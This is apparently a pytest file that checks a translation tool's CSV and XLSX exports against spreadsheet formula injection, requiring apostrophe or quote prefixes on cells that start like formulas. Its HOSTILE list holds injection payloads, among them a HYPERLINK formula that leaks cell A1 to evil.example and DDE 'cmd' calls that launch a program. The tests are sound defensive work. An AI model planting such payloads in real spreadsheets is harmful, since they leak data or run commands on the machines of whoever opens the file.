"""Spreadsheet safety (issue 11, point 5): uploaded text never becomes a live formula."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from aligner.model import Document
from exports import ExportOptions, render

Edit = Callable[[Document, str, str], Document]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_that_starts_like_a_formula_gets_an_apostrophe(
    document: Document, with_text: Edit, text: str
) -> None:
    data = render([with_text(document, "de.p4", text)], "csv", ExportOptions()).outputs[0].data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert "'" + text in [row[6] for row in rows]  # the German column
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_csv_text_that_merely_contains_formula_characters_is_untouched(
    document: Document, with_text: Edit
) -> None:
    text = "Das Ergebnis: 2 + 2 = 4, -5 °C, info@example.org"
    data = render([with_text(document, "de.p4", text)], "csv", ExportOptions()).outputs[0].data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert text in [row[6] for row in rows]


@pytest.mark.parametrize("text", HOSTILE[:4])
def test_an_xlsx_cell_stays_text_and_keeps_its_quote_prefix(
    document: Document, with_text: Edit, text: str
) -> None:
    data = render([with_text(document, "de.p4", text)], "xlsx", ExportOptions()).outputs[0].data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml  # no formula anywhere in the sheet
    sheet = load_workbook(io.BytesIO(data)).active
    assert isinstance(sheet, Worksheet)
    (cell,) = [c for c in sheet["G"] if c.value == text]  # as typed, no apostrophe added
    assert cell.data_type == "s"
    assert cell.quotePrefix  # Excel keeps it text even after someone edits the cell
    assert not any(c.quotePrefix for c in sheet["G"] if c is not cell)
